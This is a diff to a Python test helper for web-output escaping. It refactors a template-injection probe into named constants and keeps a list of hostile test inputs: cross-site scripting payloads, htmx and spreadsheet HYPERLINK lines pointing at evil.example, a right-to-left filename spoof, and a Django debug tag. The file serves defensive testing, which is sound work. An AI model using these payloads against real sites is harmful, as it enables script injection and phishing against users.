@@ -4,13 +4,15 @@ import re
 from html.parser import HTMLParser
 from typing import Any
 
+# The result is too long to stand in a page by chance, as part of a hash or a token.
+CALCULATION, CALCULATED = "{{ 7|add:420000000000 }}", "420000000007"
 STRINGS = (
     "<script>alert(1)</script>",
     "</svg><img src=x onerror=alert(1)>",
     "</textarea></template></title><svg onload=alert(1)><style>*{display:none}</style>",
     "[here](javascript:alert(1)) <a href='javascript:alert(1)'>x</a> javascript:alert(1)",
     "\u202egnp.exe\u202c \u2066x\u2069",
-    "{{ 7|add:42000 }}{% debug %}",
+    f"{CALCULATION}{{% debug %}}",
     '" hx-on:click="alert(1)" hx-get="https://evil.example/" onfocus="alert(1)" autofocus x="',
     "' onmouseover='alert(1)",
     '=HYPERLINK("https://evil.example/","x")',
@@ -53,6 +55,6 @@ def assert_inert(html: str, where: object = "") -> str:
     reader = _Reader()
     reader.feed(html)
     assert not reader.found, f"{where}: {reader.found[:5]}"
-    assert "42007" not in html, where
+    assert CALCULATED not in html, where
     assert "\0" not in html, where
     return html
